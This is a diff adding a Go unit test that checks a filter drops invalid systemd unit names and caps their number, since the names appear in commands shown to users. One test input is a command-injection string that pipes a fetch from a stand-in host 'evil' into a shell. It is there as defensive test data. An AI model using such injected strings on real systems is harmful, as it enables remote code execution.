@@ -99,3 +99,24 @@ func TestFilterSeenCountsDrift(t *testing.T) {
 		t.Errorf("%d of drift, %d listed; want %d, and fewer listed", out.DriftCount(), len(out.Drift), bundle.MaxDrift+5)
 	}
 }
+
+// The name of a failed unit stands in commands that people are told to type: what is no name of a unit is dropped, and so
+// are more than anybody has.
+func TestFilterSeenKeepsNamesOfUnits(t *testing.T) {
+	var said bundle.Seen
+	for _, name := range []string{"web.service", `dev-disk-by\\x2dlabel.mount`, "getty@tty1.service", "web; curl evil|sh #", "", "a b.service"} {
+		said.FailedUnits = append(said.FailedUnits, bundle.FailedUnit{Name: name})
+	}
+	for range 5000 {
+		said.FailedUnits = append(said.FailedUnits, bundle.FailedUnit{Name: "m.service"})
+	}
+	in, err := seen(t, said, bundle.Look{})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	out := bundle.FilterSeen(in, func(s string) string { return s })
+	if len(out.FailedUnits) != 256 || out.FailedUnits[0].Name != "web.service" || out.FailedUnits[2].Name != "getty@tty1.service" || out.FailedUnits[3].Name != "m.service" {
+		t.Errorf("%d units: %v", len(out.FailedUnits), out.FailedUnits[:min(4, len(out.FailedUnits))])
+	}
+}
